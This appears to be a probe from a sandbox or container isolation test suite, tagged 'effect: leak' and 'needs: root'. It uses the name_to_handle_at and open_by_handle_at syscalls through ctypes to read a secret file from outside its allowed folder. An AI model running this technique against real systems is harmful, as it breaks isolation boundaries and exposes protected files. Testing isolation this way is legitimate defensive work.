# effect: leak
# note: needs: root
import ctypes
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(x86_64, aarch64, *args):
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    long = ctypes.c_long
    args = [long(a) if type(a) is int else a for a in args]
    return LIBC.syscall(long(number), *args)

def attempt(probe):
    import os

    handle = (ctypes.c_uint32 * 40)(128)
    mount = ctypes.c_int()
    syscall(303, 264, -100, probe["secret_file"].encode(), handle, ctypes.byref(mount), 0)
    base = os.open(probe["folder"], os.O_RDONLY)
    return os.read(syscall(304, 265, base, handle, 0), 100)
